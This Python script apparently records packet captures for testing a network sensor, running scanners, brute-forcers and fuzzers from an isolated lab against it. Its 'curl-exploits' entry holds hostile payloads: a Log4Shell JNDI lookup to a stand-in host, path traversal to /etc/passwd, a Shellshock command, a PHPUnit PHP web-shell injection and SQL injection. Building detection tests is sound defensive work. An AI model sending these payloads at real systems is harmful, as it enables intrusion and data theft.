"""How the captures beside this file were made: `python -m tests.captures.record CASE…` makes them anew. Takes root.

A real tool against a live sensor in a lab of its own, captured on the sensor's side, inbound only.
"""

import subprocess
import sys
from collections.abc import Sequence
from pathlib import Path
from typing import Final

from rawspoof.edges.lab.namespaces import INTERFACE, Lab
from tests.golden.record import SOURCE, TARGET, start, tapping
from tests.netns.sensors import mac

HOME: Final = Path(__file__).parent
WEB: Final = f"http://{TARGET}/"
WORDS: Final = HOME / "words.txt"
BY_HAND: Final = "GET / HTTP/1.0\\r\\n\\r\\n"
NMAP: Final = ("nmap", "-n", "-Pn")
MASSCAN: Final = (
    "masscan", TARGET, "--wait", "2", "--adapter", INTERFACE, "--adapter-ip", SOURCE, "--adapter-port", "61000",
    "--router-mac", "{mac}", "-oL", "-",
)  # fmt: skip


def _nmap(*args: str, ports: str = "20-25") -> list[list[str]]:
    return [[*NMAP, *args, "-p", ports, TARGET]]


COMMANDS: Final[dict[str, Sequence[Sequence[str]]]] = {
    "nmap-syn": _nmap("-sS"),
    "nmap-syn-one": _nmap("-sS", ports="22"),
    "nmap-syn-ipv6": [[*NMAP, "-6", "-sS", "-p", "20-25", "2001:db8:51::1"]],
    "nmap-connect": _nmap("-sT"),
    "nmap-fin": _nmap("-sF"),
    "nmap-null": _nmap("-sN"),
    "nmap-xmas": _nmap("-sX"),
    "nmap-maimon": _nmap("-sM"),
    "nmap-ack": _nmap("-sA"),
    "nmap-window": _nmap("-sW"),
    "nmap-own-flags": _nmap("--scanflags", "SYNFIN"),
    # The sensor is asked to be the zombie.
    "nmap-idle": [[*NMAP, "--disable-arp-ping", "-sI", f"{TARGET}:80", "-p", "22", "198.51.100.77"]],
    "nmap-badsum": _nmap("--badsum"),
    "nmap-ttl-port-data": _nmap("--ttl", "64", "-g", "53", "--data-length", "20"),
    "nmap-decoys": _nmap("-D", "198.51.100.7,198.51.100.8,ME,198.51.100.9"),
    "nmap-decoys-one-port": _nmap("-D", "198.51.100.7,ME", ports="22"),
    # Twenty minutes.
    "nmap-T0": _nmap("-sS", "-T0", "--max-retries", "0", ports="22-24"),
    "nmap-T1": _nmap("-sS", "-T1", "--max-retries", "0", ports="22-25"),
    "nmap-T2": _nmap("-sS", "-T2"),
    "nmap-T4": _nmap("-sS", "-T4"),
    "nmap-T5": _nmap("-sS", "-T5"),
    "nmap-os": _nmap("-O", "--max-os-tries", "1", ports="1,20-40"),
    "nmap-version": _nmap("-sV", ports="80"),
    "nmap-everything": _nmap("-A", "--max-os-tries", "1", "-T4", ports="1,80"),
    "masscan": [[*MASSCAN, "-p1-20", "--rate", "500"]],
    "masscan-ttl": [[*MASSCAN, "-p1-20", "--rate", "500", "--ttl", "64"]],
    "zmap": [["zmap", "-p", "443", "-i", INTERFACE, "-G", "{mac}", "-S", SOURCE, "-b", "/dev/null", "-c", "2", TARGET]],
    "hping3-syn": [["hping3", "-S", "-c", "5", "-i", "u50000", "-p", "80", TARGET]],
    "hping3-ack": [["hping3", "-A", "-c", "5", "-i", "u50000", "-p", "80", TARGET]],
    "hping3-fin": [["hping3", "-F", "-c", "5", "-i", "u50000", "-p", "80", TARGET]],
    "hping3-xmas": [["hping3", "-F", "-P", "-U", "-c", "5", "-i", "u50000", "-p", "80", TARGET]],
    "hping3-null": [["hping3", "-c", "5", "-i", "u50000", "-p", "80", TARGET]],
    "hping3-rst": [["hping3", "-R", "-c", "5", "-i", "u50000", "-p", "80", TARGET]],
    "hping3-scan": [["hping3", "-S", "--scan", "20-29", TARGET]],
    "hydra-http": [["hydra", "-l", "admin", "-P", str(WORDS), "-t", "2", TARGET, "http-get", "/"]],
    "gobuster": [["gobuster", "dir", "-q", "-t", "2", "-u", WEB, "-w", str(WORDS)]],
    "ffuf": [["ffuf", "-s", "-t", "2", "-u", f"{WEB}FUZZ", "-w", str(WORDS)]],
    "wfuzz": [["wfuzz", "-t", "2", "-w", str(WORDS), f"{WEB}FUZZ"]],
    "dirb": [["dirb", WEB, str(WORDS), "-S"]],
    "sqlmap": [["timeout", "20", "sqlmap", "-u", f"{WEB}?id=1", "--batch", "--technique=B", "--level=1", "--smart"]],
    "whatweb": [["whatweb", "-q", WEB]],
    "curl": [["curl", "-s", WEB]],
    "wget": [["wget", "-q", "-O", "/dev/null", WEB]],
    "curl-exploits": [
        ["curl", "-s", "-A", "${jndi:ldap://198.51.100.2/a}", WEB],
        ["curl", "-s", "--path-as-is", f"{WEB}cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"],
        ["curl", "-s", "-A", "() { :; }; /bin/id", WEB],
        ["curl", "-s", "-d", "<?php system($_GET['c']);", f"{WEB}vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"],
        ["curl", "-s", f"{WEB}?id=1%27%20UNION%20ALL%20SELECT%20NULL,NULL--"],
    ],
    "nc": [["nc", "-N", "-w", "2", TARGET, "80"]],
    "ssh": [["timeout", "3", "ssh", "-T", "-o", "StrictHostKeyChecking=no", "-o", "BatchMode=yes", f"x@{TARGET}"]],
    "telnet-by-hand": [["bash", "-c", f"exec 3<>/dev/tcp/{TARGET}/80; printf '{BY_HAND}' >&3; cat <&3"]],
}  # fmt: skip


def record(name: str) -> None:
    """Make one capture."""
    with Lab() as lab:
        start(lab, HOME)
        with tapping(lab, HOME / f"{name}.pcap"):
            for command in COMMANDS[name]:
                argv = [word.replace("{mac}", mac(lab, "sensor")) for word in command]
                lab.run("attacker", argv, stdin=subprocess.DEVNULL).wait(1500)


if __name__ == "__main__":
    for wanted in sys.argv[1:] or COMMANDS:
        record(wanted)
